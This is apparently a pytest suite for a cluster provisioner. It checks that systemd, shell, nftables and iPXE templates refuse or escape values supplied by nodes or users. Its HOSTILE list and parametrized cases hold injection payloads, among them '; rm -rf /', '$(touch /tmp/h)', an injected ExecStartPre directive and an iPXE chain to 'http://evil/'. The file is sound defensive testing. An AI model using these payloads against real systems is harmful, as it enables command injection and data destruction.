"""Link 3 of the security issue: a value a node or a user sets must not become a command.

Every template (each post-install recipe through ``postinstall.plan.plan`` for a llama-rpc
and a vLLM cluster with Ray, their teardowns, and every ``bootconf/`` script through
``boot.ipxe``) is rendered with hostile values in every field a node or a user can set.
Each field is first rendered with a harmless marker; then with each hostile value, and
the outcome is one of two:

- refused: the render raises (RecipeError, UnsafeValue) with a message naming the value;
- escaped: the output parses, in its own language, to exactly what the marker's output
  parses to with the marker replaced by the value: no new unit directive, section,
  shell operator or substitution, rule line or iPXE command; every ExecStart=/
  Environment= line gives back the intended argv (systemd's quoting, ``%`` specifiers,
  ``$`` variables, read by the parser below); every shell line gives the intended words
  with the same unquoted operators (a tokenizer below, and ``bash -n``).

The places that feed the fields refuse the hostile values first (the inventory schema,
a cluster's spec, ``--serve``, the model store, the config's hostname pattern): tested at
the end. Pure: no root, no network; fast tier.
"""

from __future__ import annotations

import functools
import ipaddress
import os
import re
import shutil
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import jinja2
import pytest
from jinja2 import nodes

from provisioner import names
from provisioner.boot.ipxe import DEFAULT_BOOTCONF, ScriptRenderer
from provisioner.boot.policy import BootKind, BootSpec
from provisioner.clusters import spec as cluster_spec
from provisioner.clusters.engines import engine_for
from provisioner.config import ConfigError, Mode, parse_config, render_config
from provisioner.discovery.schema import InventorySchemaError, from_json
from provisioner.errors import ModelError
from provisioner.models.store import ModelStore
from provisioner.postinstall import vllm
from provisioner.postinstall.plan import Download, Member, NodePlan, Teardown, plan, teardown
from provisioner.postinstall.recipes import (
    DEFAULT_RECIPES,
    RecipeError,
    load_recipe,
    template_env,
)
from provisioner.records import Cluster, Served
from provisioner.states import NodeState

HOSTILE = [
    "x\nExecStartPre=/bin/touch /tmp/pwned",  # a line of its own: a directive, a command
    "x\r\n[Service]",
    "x;touch /tmp/h",
    "$(touch /tmp/h)",
    "`touch /tmp/h`",
    "x%n%%",
    "a'b\"c",
    "a b --trust-remote-code",
    "{x}",
    "${HOME}",
    "x\\",
    "x || chain http://evil/",
    "#x",
    "; rm -rf /",
]

# ------------------------------------------------------------------ the scenarios
# Each field's marker: a value that renders, unique (no marker inside another).

SHA = "0123456789abcdef" * 4
LLAMA_MARKS = {
    "worker hostname": "zqworker",
    "head hostname": "zqheadname",
    "worker address": "10.99.0.77",
    "head address": "10.99.0.78",
    "cluster name": "zqclu",
    "model": "zqalias",
    "option threads": "4242",
    "option parallel": "4243",
    "option ctx_size": "4244",
    "option ngl": "4245",
    "option memory_max": "77%",
    "artifact name": "zqart",
    "artifact binary": "bin/zqbin",
    "artifact file": "zqtarball.tar.gz",
    "artifact url": "http://10.99.0.1:8080/artifacts/zqurl.tar.gz",
    "artifact sha256": SHA,
    "model file": "zqgguf.gguf",
    "model url": "http://10.99.0.1:8080/models/zqmodelurl.gguf",
}
VLLM_MARKS = {
    "worker hostname": "zqworker",
    "head hostname": "zqheadname",
    "worker address": "10.0.0.77",
    "head address": "10.0.0.78",
    "worker nic": "zqnic0",
    "head nic": "zqnic1",
    "cluster name": "zqclu",
    "served name": "zqserved",
    "served model": "zqmodelname",
    "option dtype": "zqdtype",
    "option quantization": "zqquant",
    "option max_model_len": "4246",
    "option ray_object_store_bytes": "4247",
    "venv": "/opt/vllm/zqvenv",
}
VLLM_CPU_MARKS = {
    "profile dtype": "zqsetdtype",  # a profile's engines.vllm.dtype (no --option dtype)
    "option kv_cache_gib": "4248",
}
BOOT_MARKS = {
    "image": "zqimage@1",
    "kernel": "zqvmlinuz",
    "initrd": "zqinitrd",
    "squashfs": "zqroot.squashfs",
    "cmdline": "zqarg=1",
    "reason": "zqreason",
    "mac": "52:54:00:00:00:77",
    "base": "http://10.99.0.1:8080/zqbase",
    "token": "zqtoken",
}
BOOT_WORDS = ("cmdline", "reason")  # fields that are words (ipxe('words')), not one word


def llama_plans(v: dict[str, str]) -> list[NodePlan]:
    head, worker = v["head hostname"], v["worker hostname"]
    cluster = Cluster(
        v["cluster name"], "llama-rpc", v["model"], head, (worker,),
        options={k.removeprefix("option "): v[k] for k in v if k.startswith("option ")},
    )  # fmt: skip
    drivers = ("nvidia-driver", "intel-gpu-firmware", "intel-compute-runtime", "amdxdna",
               "mesa-vulkan")  # fmt: skip
    members = [
        Member(head, "52:54:00:00:00:01", v["head address"], "nvidia-v100s", drivers, threads=4),
        Member(worker, "52:54:00:00:00:02", v["worker address"], "qemu-lab", threads=4),
    ]
    artifact = Download(
        v["artifact name"], v["artifact file"], v["artifact url"], v["artifact sha256"],
        binaries={"server": v["artifact binary"], "rpc": v["artifact binary"]},
    )  # fmt: skip
    model = Download("m", v["model file"], v["model url"], SHA)
    return plan(cluster, members, control_url="http://10.99.0.1:8080", artifact=artifact,
                model=model, engine_recipes=("llama-rpc",))  # fmt: skip


def _vllm_cluster(v: dict[str, str], cpu: bool) -> tuple[Cluster, list[vllm.VllmMember]]:
    """Two members (Ray); ``cpu``: the CPU backend on one stage (the kv cache option and
    the profile's dtype apply), else a GPU each."""
    head, worker = v["head hostname"], v["worker hostname"]
    options = {k.removeprefix("option "): v[k] for k in v if k.startswith("option ")}
    if cpu:
        settings, nics, gpus = {"dtype": v["profile dtype"], "backend": "cpu"}, ("e0", "e1"), 0
    else:
        settings, nics, gpus = {"dtype": "half"}, (v["head nic"], v["worker nic"]), 1
    found = [
        vllm.VllmMember(head, v["head address"], nics[0], 1000, gpus, settings),
        vllm.VllmMember(worker, v["worker address"], nics[1], 1000, gpus, settings),
    ]
    parallel = {"tensor_parallel": 1, "pipeline_parallel": 1} if cpu else {}
    served = (Served(v["served name"], v["served model"], 0.5, 8000),)
    cluster = Cluster(v["cluster name"], "vllm", v["served model"], head, (worker,),
                      options=options, serve=served, **parallel)  # fmt: skip
    return cluster, found


def vllm_plans(v: dict[str, str], cpu: bool = False) -> list[NodePlan]:
    cluster, found = _vllm_cluster(v, cpu)
    venv = v.get("venv", "/opt/vllm/w")
    models = {
        s.model: {"dir": f"{vllm.MODEL_ROOT}/{s.model}", "check": "true", "action": "true"}
        for s in cluster.served()
    }
    extra = {}
    for m in found:
        ctx = vllm.context(cluster, m, found, venv=venv, models=models)
        ctx["vllm"]["install"] = "install-it"
        ctx["ray"]["token"] = "t0ken"
        extra[m.hostname] = ctx
    members = [Member(m.hostname, f"52:54:00:00:00:0{i}", m.address, "p")
               for i, m in enumerate(found)]  # fmt: skip
    wheel = Download("vllm-0.32.0-cpu-cp311", "w/requirements.txt", "http://c/w", SHA)
    return plan(cluster, members, control_url="http://c", artifact=wheel, model=None,
                extra=extra, engine_recipes=("vllm", "ray"))  # fmt: skip


def vllm_cpu_plans(v: dict[str, str]) -> list[NodePlan]:
    base = {k: m for k, m in VLLM_MARKS.items() if k != "option dtype"}  # the profile's, then
    return vllm_plans({**base, **v}, cpu=True)


def vllm_teardowns(v: dict[str, str]) -> list[Teardown]:
    cluster, _ = _vllm_cluster(v, cpu=False)
    engine = engine_for(cluster)
    context = engine.teardown_context(cluster)
    return [teardown(engine.recipes(cluster), role, context) for role in ("head", "worker")]


def boot_scripts(v: dict[str, str]) -> dict[str, str]:
    renderer = ScriptRenderer(DEFAULT_BOOTCONF)
    specs = {
        "image, live root": (BootKind.IMAGE, v["squashfs"]),
        "discovery": (BootKind.DISCOVERY, None),
        "missing": (BootKind.MISSING, None),
        "refused": (BootKind.REFUSED, None),
        "local": (BootKind.LOCAL, None),
    }
    out = {}
    for name, (kind, squashfs) in specs.items():
        spec = BootSpec(
            kind,
            image=v["image"],
            kernel=v["kernel"],
            initrd=v["initrd"],
            squashfs=squashfs,
            cmdline=v["cmdline"],
            reason=v["reason"],
        )
        out[name] = renderer.render(spec, mac=v["mac"], state=NodeState.ENROLLED,
                                    base=v["base"], token=v["token"])  # fmt: skip
    return out


@dataclass(frozen=True, eq=False)
class Scenario:
    name: str
    marks: dict[str, str]
    render: Callable[[dict[str, str]], Any]


SCENARIOS = [
    Scenario("llama-rpc", LLAMA_MARKS, llama_plans),
    Scenario("vllm+ray", VLLM_MARKS, vllm_plans),
    Scenario("vllm cpu", VLLM_CPU_MARKS, vllm_cpu_plans),
    Scenario("vllm teardown", {k: VLLM_MARKS[k] for k in ("cluster name", "served name")},
             lambda v: vllm_teardowns({**VLLM_MARKS, **v})),
    Scenario("boot scripts", BOOT_MARKS, boot_scripts),
]  # fmt: skip
CASES = [
    pytest.param(s, field, value, id=f"{s.name}|{field}|{value!r}")
    for s in SCENARIOS
    for field in s.marks
    for value in HOSTILE
]


# ------------------------------------------------------------------ the test


@pytest.mark.parametrize(("scenario", "field", "value"), CASES)
def test_a_hostile_value_is_refused_or_stays_one_escaped_value(
    scenario: Scenario, field: str, value: str
) -> None:
    mark = scenario.marks[field]
    benign = _benign(scenario)
    assert mark in repr(benign), f"{field}: the marker does not reach any template"
    try:
        hostile = scenario.render({**scenario.marks, field: value})
    except (RecipeError, names.UnsafeValue) as exc:
        assert _names(str(exc), value), f"the refusal does not name the value: {exc}"
        return
    shell: list[str] = []
    for kind, b, h in _pairs(benign, hostile):
        if kind == "shell":
            same_shell(b, h, mark, value)
            if b != h:
                shell.append(h)
        elif kind == "unit":
            same_unit(b, h, mark, value)
        elif kind == "nft":
            same_nft(b, h, mark, value)
        elif kind == "ipxe":
            same_ipxe(b, h, mark, value, words=field in BOOT_WORDS)
        else:
            assert h == b.replace(mark, value), f"{kind}: {h!r}"
    bash_accepts(shell)


@functools.cache
def _benign(scenario: Scenario) -> Any:
    return scenario.render(dict(scenario.marks))


def _names(message: str, value: str) -> bool:
    """The error names the value (or the value inside a larger one, as repr shows it)."""
    shown = repr(value)[1:-1]
    return value in message or shown in message or shown.replace("\\'", "'") in message


def _pairs(benign: Any, hostile: Any) -> Iterator[tuple[str, str, str]]:
    """(language, benign text, hostile text) for everything rendered."""
    if isinstance(benign, dict):  # boot scripts
        assert benign.keys() == hostile.keys()
        for key in benign:
            yield "ipxe", benign[key], hostile[key]
        return
    assert len(benign) == len(hostile)
    for b, h in zip(benign, hostile, strict=True):
        if isinstance(b, Teardown):
            assert isinstance(h, Teardown)
            yield "shell", b.shell(), h.shell()
            continue
        assert isinstance(b, NodePlan) and isinstance(h, NodePlan)
        assert len(b.steps) == len(h.steps)
        for bs, hs in zip(b.steps, h.steps, strict=True):
            yield "data", bs.name, hs.name
            for attr in ("check", "action", "verify", "same", "changed_action"):
                bv, hv = getattr(bs, attr), getattr(hs, attr)
                assert (bv is None) == (hv is None)
                if bv is not None:
                    yield "shell", _digests(bv), _digests(hv)
            assert (bs.put is None) == (hs.put is None)
            if bs.put is not None and hs.put is not None:
                yield "data", bs.put[0], hs.put[0]
                kind = {".service": "unit", ".nft": "nft"}.get(Path(bs.put[0]).suffix, "data")
                yield kind, bs.put[1].decode(), hs.put[1].decode()


def _digests(command: str) -> str:
    """A file step's check names its content's sha256, which the value changes."""
    return re.sub(r"\b(?!" + SHA + r")[0-9a-f]{64}\b", "<sha256>", command)


# ------------------------------------------------------------------ shell


_SPECIAL = set(";&|<>()$`*?[]{}#~!")


def _substitution(text: str, start: int) -> int:
    """The index of the ``)`` that closes the ``$(`` at ``start`` (quotes inside it are
    a new shell's)."""
    depth, quote, i = 1, "", start + 1
    while i < len(text):
        c = text[i]
        if quote:
            if c == quote:
                quote = ""
            elif c == "\\" and quote == '"':
                i += 1
        elif c in "'\"":
            quote = c
        elif c == "\\":
            i += 1
        elif c == "(":
            depth += 1
        elif c == ")":
            depth -= 1
            if depth == 0:
                return i
        i += 1
    raise AssertionError(f"unclosed $( in {text!r}")


def shell_words(text: str) -> tuple[list[str], list[str]]:
    """(the words after quote removal, the unquoted skeleton: word breaks and every
    character the shell would act on: operators, substitutions, globs, comments). A
    ``$(...)`` is read as the shell it opens: its words and skeleton nest in."""
    words: list[str] = []
    skeleton: list[str] = []
    word, in_word, quote, i = "", False, "", 0
    while i < len(text):
        c = text[i]
        if c == "$" and text[i + 1 : i + 2] == "(" and quote != "'":
            end = _substitution(text, i + 1)
            inner_words, inner_skeleton = shell_words(text[i + 2 : end])
            skeleton += ["$(", *inner_skeleton, ")"]
            word += "$(" + "\x00".join(inner_words) + ")"
            in_word, i = True, end + 1
            continue
        if quote == "'":
            if c == "'":
                quote = ""
            else:
                word += c
        elif quote == '"':
            if c == '"':
                quote = ""
            elif c == "\\" and text[i + 1 : i + 2] in ("$", "`", '"', "\\"):
                word += text[i + 1]
                i += 1
            else:
                if c in "$`":
                    skeleton.append(c)  # still expanded inside double quotes
                word += c
        elif c in " \t\n":
            if in_word:
                words.append(word)
                skeleton.append(" ")
            word, in_word = "", False
        else:
            in_word = True
            if c in "'\"":
                quote = c
            elif c == "\\":
                word += text[i + 1 : i + 2]
                i += 1
            else:
                if c in _SPECIAL:
                    skeleton.append(c)
                word += c
        i += 1
    assert not quote, f"unterminated quote: {text!r}"
    if in_word:
        words.append(word)
    return words, skeleton


def same_shell(benign: str, hostile: str, mark: str, value: str) -> None:
    bw, bs = shell_words(benign)
    hw, hs = shell_words(hostile)
    assert hs == bs, f"the shell would act differently: {hostile!r}"
    assert hw == [w.replace(mark, value) for w in bw], f"not the intended words: {hostile!r}"


def bash_accepts(commands: list[str]) -> None:
    """``bash -n``: every command that carries the value parses (one run for all)."""
    bash = shutil.which("bash")
    if not commands or bash is None:
        return
    script = "".join(f"f{i}() {{\n{c}\n}}\n" for i, c in enumerate(commands))
    done = subprocess.run([bash, "-n"], input=script, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr


# ------------------------------------------------------------------ systemd units


def unit_entries(text: str) -> list[tuple[str, str, str]]:
    """(section, key, value) per setting, ("#", "", "") per comment, as systemd reads the
    file: a line that ends in a backslash goes on with the next one."""
    entries: list[tuple[str, str, str]] = []
    section, pending = "", None
    for raw in text.split("\n"):
        if pending is None:
            stripped = raw.strip()
            if not stripped:
                continue
            if stripped[0] in "#;":
                entries.append(("#", "", ""))
                continue
            if stripped.startswith("["):
                assert stripped.endswith("]"), raw
                section = stripped
                continue
            line = raw
        else:
            line = pending + raw
        if line.endswith("\\"):
            pending = line[:-1] + " "
            continue
        pending = None
        key, sep, value = line.partition("=")
        assert sep, f"not a setting: {line!r}"
        entries.append((section, key.strip(), value.strip()))
    assert pending is None, "the file ends in a continued line"
    return entries


def systemd_split(value: str, *, exec_line: bool) -> list[str]:
    """systemd.syntax(7): words split at whitespace, "double" and 'single' quotes (in a
    word too), backslash escapes in and out of quotes; in ExecStart= a lone unquoted
    ';' separates commands (refused here: one command per line)."""
    words: list[str] = []
    i, n = 0, len(value)
    while True:
        while i < n and value[i] in " \t":
            i += 1
        if i >= n:
            return words
        if exec_line and value[i] == ";" and (i + 1 == n or value[i + 1] in " \t"):
            raise AssertionError(f"an unquoted ';' starts a second command: {value!r}")
        word, quote = "", ""
        while i < n:
            c = value[i]
            if not quote and c in " \t":
                break
            if c in "\"'" and quote in ("", c):
                quote = "" if quote else c
            elif c == "\\":
                nxt = value[i + 1 : i + 2]
                assert nxt in ('"', "'", "\\"), f"an escape systemd reads: {value!r}"
                word += nxt
                i += 1
            else:
                word += c
            i += 1
        assert not quote, f"unterminated quote: {value!r}"
        words.append(word)


def resolve(word: str, *, dollars: bool) -> str:
    """``%%`` -> ``%`` (any other ``%x`` is a specifier systemd expands); with
    ``dollars`` (ExecStart=) ``$$`` -> ``$`` (any other ``$`` is a variable)."""
    out, i = "", 0
    while i < len(word):
        c = word[i]
        if c == "%" or (dollars and c == "$"):
            assert word[i + 1 : i + 2] == c, f"systemd would expand {word[i : i + 2]!r}: {word!r}"
            i += 1
        out += c
        i += 1
    return out


def unit_value(key: str, value: str) -> list[str]:
    if key.startswith("Exec"):
        return [resolve(w, dollars=True) for w in systemd_split(value, exec_line=True)]
    if key == "Environment":
        return [resolve(w, dollars=False) for w in systemd_split(value, exec_line=False)]
    if key in ("MemoryMax", "Restart", "RestartSec", "LimitNOFILE", "TimeoutStopSec"):
        return [value]  # no specifiers
    return [resolve(value, dollars=False)]  # Description=, After=, StandardOutput=...


def same_unit(benign: str, hostile: str, mark: str, value: str) -> None:
    be, he = unit_entries(benign), unit_entries(hostile)
    assert [e[:2] for e in he] == [e[:2] for e in be], f"the directives changed:\n{hostile}"
    for (_, key, bv), (_, _, hv) in zip(be, he, strict=True):
        if key:
            want = [w.replace(mark, value) for w in unit_value(key, bv)]
            assert unit_value(key, hv) == want, f"{key}= does not read back: {hv!r}"


# ------------------------------------------------------------------ nftables, iPXE


def same_nft(benign: str, hostile: str, mark: str, value: str) -> None:
    """Only comment lines may hold text; elsewhere the value must be an address or a
    port. With nft installed (and root), nft itself checks the file."""
    bl, hl = benign.split("\n"), hostile.split("\n")
    assert hl == [line.replace(mark, value) for line in bl]
    for line in bl:
        if mark in line and not line.lstrip().startswith("#"):
            ipaddress.ip_address(value)  # raises: a non-address reached a rule
    nft = shutil.which("nft")
    if nft is not None and os.geteuid() == 0:  # nft -c asks the kernel: it needs root
        done = subprocess.run([nft, "-c", "-f", "-"], input=hostile, text=True,
                              capture_output=True, check=False)  # fmt: skip
        assert done.returncode == 0, done.stderr


_IPXE_OPERATOR = re.compile(r"^(\|\||&&|#.*)$")


def same_ipxe(benign: str, hostile: str, mark: str, value: str, *, words: bool) -> None:
    """Line by line, whitespace-split as iPXE does: the intended words, no operator or
    comment that the marker's script lacks, no ``${`` setting, no continued line."""
    bl, hl = benign.split("\n"), hostile.split("\n")
    assert len(hl) == len(bl), f"a line was added:\n{hostile}"
    for b, h in zip(bl, hl, strict=True):
        want: list[str] = []
        for tok in b.split():
            want += value.split() if words and tok == mark else [tok.replace(mark, value)]
        got = h.split()
        assert got == want, f"not the intended words: {h!r}"
        ops = [t for t in got if _IPXE_OPERATOR.match(t)]
        assert ops == [t for t in b.split() if _IPXE_OPERATOR.match(t)], f"operator in {h!r}"
        assert "${" not in h and not h.endswith("\\"), h


# ------------------------------------------------------------------ every value has a filter

ESCAPERS = {".service.j2": "systemd", ".nft.j2": "nft", ".ipxe.j2": "ipxe"}
SHELL_FIELDS = {"check", "action", "verify", "then"}  # shell; other body fields are data
# Values a shell field may take bare, and why.
KNOWN_SAFE_SHELL = {
    "packages": "Debian package names, each checked against plan.PACKAGE",
    "vllm.install": "a command built with shlex by artifacts.wheelhouse.node_install_command",
    "item.check": "a command built with shlex by models.hf.fetch_tree_command",
    "item.action": "a command built with shlex by models.hf.fetch_tree_command",
}


def _dotted(node: nodes.Node) -> str:
    if isinstance(node, nodes.Name):
        return node.name
    if isinstance(node, nodes.Getattr):
        return f"{_dotted(node.node)}.{node.attr}"
    return "<expression>"


def _outputs(env: jinja2.Environment, text: str) -> list[nodes.Node]:
    found = []
    for output in env.parse(text).find_all(nodes.Output):
        found += [n for n in output.nodes if not isinstance(n, nodes.TemplateData)]
    return found


def _escaped_by(node: nodes.Node) -> str | None:
    """The escaping filter applied last (``| nft | join(", ")``: a list's items)."""
    if isinstance(node, nodes.Filter) and node.name == "join" and node.node is not None:
        node = node.node
    return node.name if isinstance(node, nodes.Filter) else None


TEMPLATES = [
    *sorted((DEFAULT_RECIPES / "templates").glob("*.j2")),
    *sorted(DEFAULT_BOOTCONF.glob("*.j2")),
]


@pytest.mark.parametrize("path", TEMPLATES, ids=lambda p: p.name)
def test_every_value_in_a_template_names_its_language(path: Path) -> None:
    want = next(f for suffix, f in ESCAPERS.items() if path.name.endswith(suffix))
    env = template_env()
    for node in _outputs(env, path.read_text()):
        assert _escaped_by(node) == want, f"{path.name}: a value without | {want}: {node}"


RECIPES = sorted(p.stem for p in DEFAULT_RECIPES.glob("*.yaml"))


@pytest.mark.parametrize("name", RECIPES)
def test_every_value_in_a_recipes_shell_is_quoted_and_data_is_not(name: str) -> None:
    recipe = load_recipe(name)
    env = template_env()
    texts = []
    for step in recipe.steps:
        texts += [(key in SHELL_FIELDS, text) for key, text in step.body.items()]
        texts += [(True, step.then)] if step.then else []
        texts += [(False, step.name), *((False, p) for p in step.packages)]
    for entry in recipe.teardown:
        texts += [(True, c) for c in entry.commands] + [(False, u) for u in entry.units]
    for shell, text in texts:
        for node in _outputs(env, text):
            filtered = _escaped_by(node)
            if shell:
                assert filtered == "sh" or _dotted(node) in KNOWN_SAFE_SHELL, (
                    f"{name}: {text!r}: a shell value without | sh"
                )
            else:  # plan.py quotes data where it builds commands: `| sh` would quote twice
                assert filtered is None, f"{name}: {text!r}: data takes no filter"


def test_every_template_is_rendered_by_the_hostile_test() -> None:
    rendered = {
        str(step.body["template"])
        for name in ("base", "llama-rpc", "vllm", "ray")
        for step in load_recipe(name).steps
        if "template" in step.body
    }
    rendered |= {BootSpec(kind).template for kind in BootKind}
    assert rendered == {p.name for p in TEMPLATES}
    drivers = {f"driver-{d}" for d in ("nvidia-driver", "intel-gpu-firmware",
                                        "intel-compute-runtime", "amdxdna",
                                        "mesa-vulkan")}  # fmt: skip
    assert {"base", "llama-rpc", "vllm", "ray", *drivers} == set(RECIPES)


def test_markers_are_distinct() -> None:
    for marks in (LLAMA_MARKS, VLLM_MARKS, {**VLLM_MARKS, **VLLM_CPU_MARKS}, BOOT_MARKS):
        for a in marks.values():
            assert [b for b in marks.values() if a in b] == [a]


# ------------------------------------------------------------------ the filters themselves


@pytest.mark.parametrize(
    ("kind", "value", "written"),
    [
        ("arg", "plain-word_1.0:x,y/z@h+=", "plain-word_1.0:x,y/z@h+="),
        ("arg", "a b", '"a b"'),
        ("arg", "50%", "50%%"),
        ("arg", "$HOME", '"$$HOME"'),
        ("arg", 'q"\\', '"q\\"\\\\"'),
        ("arg", ";", '";"'),
        ("arg", ["--x", "a b"], '--x "a b"'),
        ("env", "K=a b", '"K=a b"'),
        ("env", "K=$x%", '"K=$x%%"'),
        ("text", "cluster 50% (a b)", "cluster 50%% (a b)"),
        ("unit", "ray-x.service", "ray-x.service"),
        ("name", "Qwen2.5-0.5B_x", "Qwen2.5-0.5B_x"),
        ("size", "90%", "90%"),
        ("size", "16G", "16G"),
        ("exec", "/opt/x y/bin", '"/opt/x y/bin"'),
    ],
)
def test_the_systemd_filter(kind: str, value: object, written: str) -> None:
    env = template_env()
    assert env.from_string("{{ v | systemd(k) }}").render(v=value, k=kind) == written


@pytest.mark.parametrize(
    ("kind", "value"),
    [("arg", "a\nb"), ("text", "a\\"), ("unit", "../x.service"), ("size", "90%%"),
     ("name", "../x"), ("name", "a b"),
     ("size", "1; x"), ("exec", "-/bin/sh"), ("env", "no assignment"), ("env", "A B=1"),
     ("arg", None), ("nope", "x")],
)  # fmt: skip
def test_the_systemd_filter_refuses(kind: str, value: object) -> None:
    with pytest.raises(names.UnsafeValue, match="systemd"):
        template_env().from_string("{{ v | systemd(k) }}").render(v=value, k=kind)


@pytest.mark.parametrize(
    ("value", "written"),
    [("10.0.0.1", "10.0.0.1"), ("fe80::1", "fe80::1"), (6379, "6379"), ("11000-11999",
     "11000-11999"), (["10.0.0.1", 8000], "10.0.0.1, 8000")],
)  # fmt: skip
def test_the_nft_filter(value: object, written: str) -> None:
    env = template_env()
    assert env.from_string('{{ v | nft | join(", ") if v is iterable and v is not string '
                           "else v | nft }}").render(v=value) == written  # fmt: skip


@pytest.mark.parametrize(
    "value",
    [
        "10.0.0.1 accept",
        "10.0.0.1;",
        "x",
        70000,
        "9-1",
        True,
        "",
        "1.2.3.4/24",
        "fe80::1%a b",
        "\u00b2",
        "123456",
    ],
)
def test_the_nft_filter_refuses(value: object) -> None:
    with pytest.raises(names.UnsafeValue, match="nft"):
        template_env().from_string("{{ v | nft }}").render(v=value)


def test_the_sh_filter_quotes_what_needs_it_and_nothing_else() -> None:
    env = template_env()
    assert env.from_string("{{ v | sh }}").render(v="node0") == "node0"
    assert env.from_string("{{ v | sh }}").render(v="n0;touch /tmp/h") == "'n0;touch /tmp/h'"
    assert env.from_string("{{ v | sh }}").render(v=["a", "b c"]) == "a 'b c'"


@pytest.mark.parametrize(
    ("kind", "value"),
    [("word", "a b"), ("word", ""), ("word", "${x}"), ("word", "#x"), ("word", "||"),
     ("word", "a\\"), ("words", "quiet || chain http://e/"), ("words", "a ${net0/mac}"),
     ("words", "x #c"), ("nope", "x")],
)  # fmt: skip
def test_the_ipxe_filter_refuses(kind: str, value: str) -> None:
    env = ScriptRenderer(DEFAULT_BOOTCONF).env
    with pytest.raises(names.UnsafeValue, match="ipxe"):
        env.from_string("{{ v | ipxe(k) }}").render(v=value, k=kind)


def test_finalize_refuses_a_line_break_even_without_a_filter() -> None:
    for env in (template_env(), ScriptRenderer(DEFAULT_BOOTCONF).env):
        with pytest.raises(names.UnsafeValue, match="line break"):
            env.from_string("{{ v }}").render(v="a\nb")


# ------------------------------------------------------------------ where the values enter


@pytest.mark.parametrize("value", HOSTILE)
def test_an_inventory_with_a_hostile_nic_name_or_hostname_is_refused(value: str) -> None:
    for field, where in (({"nics": [{"name": value}]}, "nics/0/name"), ({"hostname": value},
                                                                        "hostname")):  # fmt: skip
        with pytest.raises(InventorySchemaError, match=f"^{where}: "):
            from_json({"schema": "provisioner.inventory/1", **field})


CLUSTER_FIELDS: dict[str, Callable[[Cluster, str], Cluster]] = {
    "name": lambda c, v: replace(c, name=v),
    "model": lambda c, v: replace(c, model=v),
    "head": lambda c, v: replace(c, head=v),
    "worker": lambda c, v: replace(c, workers=(v,)),
    "option value": lambda c, v: replace(c, options={"ctx_size": v}),
    "option key": lambda c, v: replace(c, options={v: "1"}),
    "rpc network": lambda c, v: replace(c, rpc_network=v),
    "served name": lambda c, v: replace(c, serve=(Served(v, "m", None, 8000),)),
    "served model": lambda c, v: replace(c, serve=(Served("s", v, None, 8000),)),
}


@pytest.mark.parametrize(
    ("field", "value"), [(f, v) for f in CLUSTER_FIELDS for v in HOSTILE], ids=repr
)
def test_a_cluster_with_a_hostile_name_or_option_is_refused(field: str, value: str) -> None:
    serve = (Served("qwen", "qwen", None, 8000),)
    good = Cluster("rtx", "vllm", "qwen", "node0", ("node1",), "eth0", options={"ctx_size": "4096"},
                   serve=serve)  # fmt: skip
    assert cluster_spec.names_problems(good) == []
    bad = CLUSTER_FIELDS[field](good, value)
    problems = cluster_spec.names_problems(bad)
    if field == "option value" and value == "x%n%%":
        assert problems == []  # '%' is a value's (memory_max=90%): escaped as %% in units
        return
    assert problems and all(_names(p, value) for p in problems), problems
    assert set(problems) <= set(cluster_spec.validate(bad, {}, {}))  # what `cluster create` says


@pytest.mark.parametrize("value", HOSTILE)
def test_serve_names_and_models_are_refused(value: str) -> None:
    for text in (f"{value}=m", f"s={value}"):
        with pytest.raises(ValueError, match="--serve"):
            vllm.parse_serve(text, 0)


@pytest.mark.parametrize("value", HOSTILE)
def test_the_model_store_refuses_a_hostile_name(value: str, tmp_path: Path) -> None:
    source = tmp_path / "m.gguf"
    source.write_bytes(b"GGUF\x03\x00\x00\x00")
    with pytest.raises(ModelError, match="bad model name"):
        ModelStore(tmp_path / "store").add(str(source), name=value)


@pytest.mark.parametrize("value", HOSTILE)
def test_the_hostname_pattern_is_refused(value: str) -> None:
    text = render_config(interface="eth0", address="10.10.0.1", mode=Mode.FULL,
                         dhcp_range="10.10.0.100-10.10.0.199")  # fmt: skip
    pattern = value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    pattern = pattern.replace("\r", "\\r") + "{n}"
    assert 'hostname_pattern = "node{n}"' in text
    with pytest.raises(ConfigError) as info:
        parse_config(text.replace('hostname_pattern = "node{n}"',
                                  f'hostname_pattern = "{pattern}"'))  # fmt: skip
    assert info.value.key == "cluster.hostname_pattern"
